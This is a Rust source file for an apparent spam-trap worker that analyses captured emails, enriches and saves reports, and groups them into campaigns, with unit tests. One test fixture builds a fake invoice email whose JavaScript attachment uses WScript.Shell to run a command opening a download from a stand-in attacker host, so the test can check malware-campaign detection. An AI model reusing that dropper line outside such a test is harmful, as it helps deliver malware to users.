//! The analysis worker: takes jobs from the store's durable queue, analyses each message with
//! the engine, enriches the report (authentication, ClamAV) and saves it with its indicators.
//!
//! One step is [`Worker::try_analyze_next`]: claim a batch, analyse, enrich, save. Tests and
//! `spamhattan worker --until-idle` drive it directly; `serve` and `worker` run the pipelined
//! [`pool`], where analysis threads never wait for DNS or clamd. Never on the SMTP path: the
//! trap answered `250` before a job exists. The engine runs through an [`Analyst`]: in this
//! process, or in a sandboxed child per analysis thread (`crate::sandbox`).

pub mod campaign;
mod enrich;
mod facets;
pub mod pool;

pub use campaign::Clustering;
pub use enrich::Enricher;

use crate::sandbox::{Analyst, Failure};
use analysis::{Engine, Input};
use anyhow::Result;
use model::{Event, EventKind, Report, Sighting};
use std::sync::Arc;
use std::time::Duration;
use store::{Job, RawLookup, ReportSave, Store};
use trap::EventSink;

/// Jobs claimed at once: one claim commit and one save commit per batch instead of per message.
pub const BATCH: usize = 32;

/// A claimed job comes back to the queue after this if its worker died: long enough for the
/// slowest analysis plus enrichment (10 s engine budget, 5 s authentication budget) many times
/// over, short enough that a crash costs minutes, not hours.
pub const LEASE: Duration = Duration::from_secs(300);

/// Claims after which a message is analysed no further. A claim that ends without a saved
/// report means the process stopped while analysing: a stack overflow, an abort or the OOM
/// killer, which `catch_unwind` cannot catch. Without this limit one such message would take
/// the trap down again every time its lease ran out after a restart. Past it the message gets
/// a report that says so (verdict `unknown`); the raw message stays for a human.
pub const MAX_ANALYSIS_ATTEMPTS: u32 = 5;

/// What one step did.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// This many jobs were completed (with or without a report).
    Analyzed(usize),
    /// The queue had nothing to claim.
    Empty,
}

/// One analysed job on its way to the store.
#[derive(Debug)]
pub struct Analyzed {
    pub job: Job,
    pub sighting: Sighting,
    pub raw: Vec<u8>,
    pub report: Report,
}

/// Analyses jobs of one store with one engine.
#[derive(Clone)]
pub struct Worker {
    store: Store,
    engine: Arc<Engine>,
    enricher: Arc<Enricher>,
    events: Arc<dyn EventSink>,
    name: String,
    /// Campaign assignment after each save; `None` when clustering is off.
    clustering: Option<Clustering>,
    /// Where `engine.analyze` runs. Each clone of the worker (one per analysis thread) has
    /// its own child process.
    analyst: Analyst,
}

impl std::fmt::Debug for Worker {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Worker").field("name", &self.name).finish()
    }
}

impl Worker {
    pub fn new(
        store: Store,
        engine: Arc<Engine>,
        enricher: Arc<Enricher>,
        events: Arc<dyn EventSink>,
        name: impl Into<String>,
    ) -> Worker {
        Worker {
            store,
            engine,
            enricher,
            events,
            name: name.into(),
            clustering: None,
            analyst: Analyst::in_process(),
        }
    }

    /// Runs the analysis through `analyst` (sandboxed children) instead of in this process.
    pub fn with_analyst(mut self, analyst: Analyst) -> Worker {
        self.analyst = analyst;
        self
    }

    /// Starts this worker's analysis child now, if it uses one (see [`Analyst::warm_up`]).
    pub fn warm_up(&self) -> Result<()> {
        self.analyst.warm_up()
    }

    /// Groups saved reports into campaigns (and raises alerts) after each save.
    pub fn with_clustering(mut self, clustering: Clustering) -> Worker {
        self.clustering = Some(clustering);
        self
    }

    /// Clusters whatever waits (reports saved by this or another process); errors are logged:
    /// the reports stay unclustered and the next call takes them again.
    pub fn cluster_pending(&self) -> usize {
        let Some(c) = &self.clustering else { return 0 };
        match c.drain(&self.store) {
            Ok(n) => n,
            Err(e) => {
                tracing::warn!(error = %e, "clustering step failed; retrying later");
                0
            }
        }
    }

    /// One step: claim up to [`BATCH`] jobs, analyse, enrich (on `rt`), save. `rt` must be a
    /// multi-threaded runtime: with authentication on, a current-thread runtime was seen to
    /// hang in `block_on` (the resolver's background work never ran; not investigated further).
    pub fn try_analyze_next(&self, rt: &tokio::runtime::Handle) -> Result<Outcome> {
        let Some(mut items) = self.claim_and_analyze()? else {
            return Ok(Outcome::Empty);
        };
        let n = items.len();
        rt.block_on(self.enricher.enrich_all(&self.engine, &mut items));
        self.save(&items)?;
        Ok(Outcome::Analyzed(n))
    }

    /// The CPU part of a step: claim a batch and analyse it. `None` when the queue is empty.
    /// Jobs whose message is gone (retention removed the raw bytes, or the sighting is unknown)
    /// are completed without a report.
    pub fn claim_and_analyze(&self) -> Result<Option<Vec<Analyzed>>> {
        // What this process's store writer handed over first (PostgreSQL: no claim needed).
        let mut claimed = self.store.take_handed_off(BATCH)?;
        if claimed.is_empty() {
            claimed = self.store.claim_messages(&self.name, LEASE, BATCH)?;
        }
        if claimed.is_empty() {
            return Ok(None);
        }
        let mut out = Vec::with_capacity(claimed.len());
        for store::Claimed { job, sighting, raw } in claimed {
            match (sighting, raw) {
                (Some(sighting), RawLookup::Found(raw)) if job.attempts > MAX_ANALYSIS_ATTEMPTS => {
                    tracing::error!(
                        job = job.id,
                        sighting = %job.sighting_id,
                        attempts = job.attempts,
                        "analysis abandoned: earlier attempts ended without a report"
                    );
                    let report = self.abandoned(&sighting, &raw, job.attempts);
                    out.push(Analyzed {
                        job,
                        sighting,
                        raw,
                        report,
                    });
                }
                (Some(sighting), RawLookup::Found(raw)) => {
                    // An error here is "no analysis child could be started" in mode
                    // `required`: the claimed jobs stay leased and come back after `LEASE`.
                    let report = match self.analyst.analyze(&self.engine, &raw, &sighting)? {
                        Ok(report) => report,
                        Err(failure) => self.failed(&sighting, &raw, &failure),
                    };
                    out.push(Analyzed {
                        job,
                        sighting,
                        raw,
                        report,
                    });
                }
                (sighting, raw) => {
                    tracing::warn!(
                        job = job.id,
                        sighting = %job.sighting_id,
                        known = sighting.is_some(),
                        raw = ?std::mem::discriminant(&raw),
                        "job without a stored message: completed without a report"
                    );
                    self.store.complete_job(job.id)?;
                }
            }
        }
        Ok(Some(out))
    }

    /// The report of a message whose analysis was abandoned: see [`Worker::unanalysed`].
    fn abandoned(&self, sighting: &Sighting, raw: &[u8], attempts: u32) -> Report {
        self.unanalysed(
            sighting,
            raw,
            model::AnomalyKind::BudgetExceeded,
            format!(
                "analysis abandoned: {} earlier attempts ended without a report (the process \
                 stopped while analysing this message); the raw message is kept",
                attempts - 1
            ),
        )
    }

    /// The report of a message whose analysis child died on it (memory or time limit, a
    /// crash): the job completes with this report, so the message is not retried in a loop.
    fn failed(&self, sighting: &Sighting, raw: &[u8], failure: &Failure) -> Report {
        self.unanalysed(
            sighting,
            raw,
            failure.anomaly_kind(),
            format!("{}; the raw message is kept", failure.detail()),
        )
    }

    /// The engine's report of an empty message, with this message's identity, verdict
    /// `unknown` and an anomaly saying why it was not analysed.
    fn unanalysed(
        &self,
        sighting: &Sighting,
        raw: &[u8],
        kind: model::AnomalyKind,
        detail: String,
    ) -> Report {
        let mut report = self.engine.analyze(
            b"",
            &Input {
                sighting: Some(sighting),
                auth: None,
            },
        );
        report.message_id = sighting.message_id;
        report.size = raw.len() as u64;
        report.verdict.class = model::VerdictClass::Unknown;
        report.anomalies.push(model::report::ReportAnomaly {
            kind,
            at: "message".into(),
            detail,
        });
        report
    }

    /// Saves reports (completing their jobs), announces them and clusters what waits.
    pub fn save(&self, items: &[Analyzed]) -> Result<()> {
        self.save_only(items)?;
        self.cluster_pending();
        Ok(())
    }

    /// [`Worker::save`] without the clustering: the pool clusters on a thread of its own.
    pub fn save_only(&self, items: &[Analyzed]) -> Result<()> {
        let batch: Vec<ReportSave<'_>> = items
            .iter()
            .map(|i| ReportSave {
                job: Some(i.job.id),
                sighting: &i.sighting,
                report: &i.report,
            })
            .collect();
        self.store.save_reports(&batch)?;
        for i in items {
            crate::metrics::report_saved(i.sighting.received_at);
            self.events.emit(analyzed_event(&i.sighting, &i.report));
        }
        Ok(())
    }
}

fn analyzed_event(sighting: &Sighting, r: &Report) -> Event {
    let rules: Vec<&str> = r.verdict.reasons.iter().map(|x| x.rule.as_str()).collect();
    Event::new(EventKind::MessageAnalyzed, Some(sighting.session_id))
        .field("message_id", r.message_id.to_hex())
        .field("sighting", sighting.id)
        .field("class", r.verdict.class.as_str())
        .field("score", r.verdict.score)
        .field("rules", rules)
        .field("indicators", r.indicators.len())
        .field("anomalies", r.anomalies.len())
        .field("elapsed_us", r.budget.elapsed_us)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Mutex;

    #[derive(Default)]
    struct Recorder(Mutex<Vec<Event>>);

    impl EventSink for Recorder {
        fn emit(&self, event: Event) {
            if let Ok(mut v) = self.0.lock() {
                v.push(event);
            }
        }
    }

    fn sighting(raw: &[u8]) -> Sighting {
        Sighting {
            id: uuid::Uuid::now_v7(),
            message_id: model::MessageId::of(raw),
            received_at: model::now(),
            source: model::SightingSource::Smtp,
            size: raw.len() as u64,
            session_id: uuid::Uuid::now_v7(),
            listener: "smtp".into(),
            peer: "192.0.2.7:40000".into(),
            local: "127.0.0.1:2525".into(),
            helo: Some("bot.example".into()),
            tls: None,
            envelope: model::Envelope::default(),
            anomalies: vec![],
            timings: model::Timings::default(),
            queue_id: String::new(),
            sensor: None,
        }
    }

    /// A worker with the default engine, no enrichment and its events dropped.
    fn plain_worker(store: &Store) -> Worker {
        Worker::new(
            store.clone(),
            Arc::new(Engine::with_defaults()),
            Arc::new(Enricher::none()),
            Arc::new(Recorder::default()),
            "test",
        )
    }

    #[test]
    fn one_step_analyses_the_queue_and_the_next_finds_it_empty() -> Result<()> {
        let dir = tempfile::tempdir()?;
        let store = Store::open(store::StoreConfig::new(dir.path()))?;
        let rt = tokio::runtime::Builder::new_current_thread().build()?;
        let raw = b"From: PayPal <x@evil.example>\r\nSubject: verify\r\n\r\nhello\r\n".to_vec();
        let s = sighting(&raw);
        let captured = store.capture(raw, s).wait()?;
        let events = Arc::new(Recorder::default());
        let worker = Worker::new(
            store.clone(),
            Arc::new(Engine::with_defaults()),
            Arc::new(Enricher::none()),
            events.clone(),
            "test",
        );
        assert_eq!(worker.try_analyze_next(rt.handle())?, Outcome::Analyzed(1));
        assert_eq!(worker.try_analyze_next(rt.handle())?, Outcome::Empty);
        let report = store
            .report(captured.sighting_id)?
            .expect("a report was saved");
        assert_eq!(report.message_id, captured.message_id);
        assert_eq!(store.job_depth()?, 0);
        let seen = events.0.lock().map(|v| v.len()).unwrap_or(0);
        assert_eq!(seen, 1, "one spamhattan.message.analyzed event");
        Ok(())
    }

    #[test]
    fn a_job_whose_raw_bytes_are_gone_is_completed_without_a_report() -> Result<()> {
        let dir = tempfile::tempdir()?;
        let store = Store::open(store::StoreConfig::new(dir.path()))?;
        let rt = tokio::runtime::Builder::new_current_thread().build()?;
        let raw = b"Subject: x\r\n\r\ny\r\n".to_vec();
        let captured = store.capture(raw.clone(), sighting(&raw)).wait()?;
        // Retention with a zero byte budget removes the raw bytes; the sighting stays.
        let mut cfg = store::StoreConfig::new(dir.path());
        cfg.retention.max_blob_bytes = Some(0);
        drop(store);
        let store = Store::open(cfg)?;
        store.enforce_retention()?;
        let worker = plain_worker(&store);
        assert_eq!(worker.try_analyze_next(rt.handle())?, Outcome::Analyzed(0));
        assert!(store.report(captured.sighting_id)?.is_none());
        assert_eq!(store.job_depth()?, 0);
        Ok(())
    }

    #[test]
    fn a_message_that_keeps_killing_the_analysis_is_given_up_with_a_report() -> Result<()> {
        let dir = tempfile::tempdir()?;
        let store = Store::open(store::StoreConfig::new(dir.path()))?;
        let rt = tokio::runtime::Builder::new_current_thread().build()?;
        let raw = b"From: PayPal <x@evil.example>\r\nSubject: verify\r\n\r\nhello\r\n".to_vec();
        let captured = store.capture(raw.clone(), sighting(&raw)).wait()?;
        // Each claim whose lease runs out without a saved report is a process that died. The
        // claims are made in the past, so the last lease has run out by now.
        let step = LEASE + Duration::from_secs(1);
        let mut t = model::now() - step * MAX_ANALYSIS_ATTEMPTS;
        for _ in 0..MAX_ANALYSIS_ATTEMPTS {
            let job = store.try_claim_job_at("dead", LEASE, t)?;
            assert!(job.is_some(), "the job is claimable again after its lease");
            t += step;
        }
        let worker = plain_worker(&store);
        assert_eq!(worker.try_analyze_next(rt.handle())?, Outcome::Analyzed(1));
        let report = store.report(captured.sighting_id)?.expect("a report");
        assert_eq!(report.message_id, captured.message_id);
        assert_eq!(report.size, raw.len() as u64);
        assert_eq!(report.verdict.class, model::VerdictClass::Unknown);
        assert!(
            report
                .anomalies
                .iter()
                .any(|a| a.detail.contains("analysis abandoned")),
            "{:?}",
            report.anomalies
        );
        assert_eq!(store.job_depth()?, 0);
        assert!(matches!(
            store.raw(&captured.message_id)?,
            RawLookup::Found(_)
        ));
        Ok(())
    }

    fn dropper(n: usize) -> Vec<u8> {
        format!(
            "From: billing{n}@invoices.example\r\nTo: user{n}@trap.example\r\n\
             Subject: Invoice {n}4821 overdue\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\
             Content-Type: text/plain\r\n\r\nDear customer {n}, your invoice {n}4821 is overdue. \
             Open the attached script to see the amount and pay it today please.\r\n--b\r\n\
             Content-Type: application/octet-stream; name=\"invoice_{n}.js\"\r\n\
             Content-Disposition: attachment; filename=\"invoice_{n}.js\"\r\n\r\n\
             var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c start http://dl.evil.example/{n}');\r\n\
             --b--\r\n"
        )
        .into_bytes()
    }

    #[test]
    fn a_step_clusters_what_it_saved_and_raises_each_alert_once() -> Result<()> {
        let dir = tempfile::tempdir()?;
        let store = Store::open(store::StoreConfig::new(dir.path()))?;
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()?;
        let events = Arc::new(Recorder::default());
        let wake = Arc::new(tokio::sync::Notify::new());
        let worker = Worker::new(
            store.clone(),
            Arc::new(Engine::with_defaults()),
            Arc::new(Enricher::none()),
            events.clone(),
            "test",
        )
        .with_clustering(Clustering {
            thresholds: analysis::cluster::Thresholds::default(),
            rules: Arc::new(analysis::warning::Rules::defaults()),
            receivers: vec![
                ("hook".into(), model::Severity::Low),
                ("pager".into(), model::Severity::Critical),
            ],
            events: events.clone(),
            outbox: Arc::clone(&wake),
            raised: Default::default(),
        });
        let other = b"From: x@news.example\r\nSubject: weekly garden news\r\n\r\n\
            Tulips bloom in spring and roses in summer, says the garden club newsletter.\r\n"
            .to_vec();
        for raw in [dropper(1), other, dropper(2), dropper(3)] {
            let s = sighting(&raw);
            store.capture(raw, s).wait()?;
        }
        assert_eq!(worker.try_analyze_next(rt.handle())?, Outcome::Analyzed(4));
        let (live, merged, pending) = store.campaign_counts()?;
        assert_eq!(
            (live, merged, pending),
            (2, 0, 0),
            "one dropper campaign, one newsletter"
        );
        let campaigns = store.campaigns(&store::CampaignQuery::default())?;
        let big = campaigns
            .iter()
            .find(|c| c.messages == 3)
            .expect("the campaign of 3");
        assert_eq!(big.verdict, model::VerdictClass::Malware);
        let alerts = store.alerts(None, 100)?;
        let fired: Vec<&str> = alerts.iter().map(|a| a.alert.rule.as_str()).collect();
        assert_eq!(
            fired
                .iter()
                .filter(|r| **r == "new-malware-campaign")
                .count(),
            1,
            "once per campaign, though messages 2 and 3 both satisfy it: {fired:?}"
        );
        let malware = alerts
            .iter()
            .find(|a| a.alert.rule == "new-malware-campaign")
            .expect("raised");
        let receivers: Vec<&str> = malware
            .deliveries
            .iter()
            .map(|d| d.receiver.as_str())
            .collect();
        assert_eq!(
            receivers,
            vec!["hook"],
            "the pager only takes critical alerts"
        );
        let kinds: Vec<&str> = events
            .0
            .lock()
            .map(|v| v.iter().map(|e| e.kind.id()).collect())
            .unwrap_or_default();
        assert_eq!(
            kinds
                .iter()
                .filter(|k| **k == "spamhattan.campaign.created")
                .count(),
            2
        );
        assert!(kinds.contains(&"spamhattan.alert.raised"));
        Ok(())
    }

    /// An enricher with authentication only, asking `silent` (a bound UDP socket nobody
    /// reads), so every result is `temperror` once `budget` is spent.
    fn auth_enricher(
        rt: &tokio::runtime::Runtime,
        silent: &std::net::UdpSocket,
        budget: Duration,
    ) -> Result<Arc<Enricher>> {
        let settings = crate::config::AnalysisSettings {
            workers: 1,
            engine: analysis::EngineConfig::default(),
            auth: Some(::enrich::AuthConfig {
                nameservers: vec![silent.local_addr()?],
                timeout: budget / 3,
                total_budget: budget,
                ..::enrich::AuthConfig::default()
            }),
            clamav: None,
            sandbox: crate::config::SandboxSettings::default(),
        };
        // The resolver binds to the runtime it is built in.
        let _guard = rt.enter();
        Ok(Arc::new(Enricher::from_settings(&settings)?))
    }

    /// The worker's enrichment wiring: authentication runs for the sighting's peer, its results
    /// land in the report and become findings. The nameserver here never answers (a bound UDP
    /// socket nobody reads), so every result is `temperror` once the short budget is spent.
    #[test]
    fn authentication_results_reach_the_report_and_its_findings() -> Result<()> {
        let dir = tempfile::tempdir()?;
        let store = Store::open(store::StoreConfig::new(dir.path()))?;
        // Multi-threaded, as in `serve` and `worker`.
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()?;
        let silent = std::net::UdpSocket::bind("127.0.0.1:0")?;
        let enricher = auth_enricher(&rt, &silent, Duration::from_millis(300))?;
        assert!(!enricher.is_empty());
        let raw = b"From: a@sender.example\r\nSubject: x\r\n\r\nbody\r\n".to_vec();
        let mut s = sighting(&raw);
        s.envelope.mail_from.address = "a@sender.example".into();
        let captured = store.capture(raw, s).wait()?;
        let worker = Worker::new(
            store.clone(),
            Arc::new(Engine::with_defaults()),
            enricher,
            Arc::new(Recorder::default()),
            "test",
        );
        assert_eq!(worker.try_analyze_next(rt.handle())?, Outcome::Analyzed(1));
        let report = store.report(captured.sighting_id)?.expect("a report");
        let auth = report.auth.expect("authentication was evaluated");
        assert_eq!(auth.spf.result, "temperror", "{:?}", auth.spf);
        assert!(
            report
                .findings
                .iter()
                .any(|f| f.signal == "auth.spf.temperror")
        );
        Ok(())
    }

    /// Sends a unit on `tx` for every `message.analyzed` event: the pool tests wait on it.
    struct Analysed(Mutex<std::sync::mpsc::Sender<()>>);

    impl EventSink for Analysed {
        fn emit(&self, event: Event) {
            if event.kind == EventKind::MessageAnalyzed
                && let Ok(tx) = self.0.lock()
            {
                let _ = tx.send(());
            }
        }
    }

    /// The pool end to end, both ways a batch can travel: straight from the analysis threads
    /// to the saver (no enricher), and through the enrichment stage (authentication against a
    /// nameserver that never answers). Every message of several batches gets its report, and
    /// with the enricher every report has authentication results.
    #[test]
    fn the_pool_saves_every_batch_with_and_without_enrichment() -> Result<()> {
        for enriched in [false, true] {
            let dir = tempfile::tempdir()?;
            let store = Store::open(store::StoreConfig::new(dir.path()))?;
            let rt = tokio::runtime::Builder::new_multi_thread()
                .worker_threads(2)
                .enable_all()
                .build()?;
            let silent = std::net::UdpSocket::bind("127.0.0.1:0")?;
            let enricher = if enriched {
                auth_enricher(&rt, &silent, Duration::from_millis(100))?
            } else {
                Arc::new(Enricher::none())
            };
            let n = 3 * BATCH + 5;
            let mut ids = Vec::new();
            for i in 0..n {
                let raw = format!("From: a@sender.example\r\nSubject: {i}\r\n\r\nbody {i}\r\n");
                let raw = raw.into_bytes();
                let mut s = sighting(&raw);
                s.envelope.mail_from.address = "a@sender.example".into();
                ids.push(store.capture(raw, s).wait()?.sighting_id);
            }
            let (tx, analysed) = std::sync::mpsc::channel();
            let worker = Worker::new(
                store.clone(),
                Arc::new(Engine::with_defaults()),
                enricher,
                Arc::new(Analysed(Mutex::new(tx))),
                "test",
            );
            let pool = pool::Pool::start(worker, 2, rt.handle().clone());
            for got in 0..n {
                analysed
                    .recv_timeout(Duration::from_secs(60))
                    .map_err(|e| anyhow::anyhow!("{got} of {n} analysed, then {e}"))?;
            }
            pool.stop();
            for id in &ids {
                let report = store.report(*id)?.expect("every message has its report");
                assert_eq!(report.auth.is_some(), enriched, "enriched: {enriched}");
            }
            assert_eq!(store.job_depth()?, 0);
        }
        Ok(())
    }
}
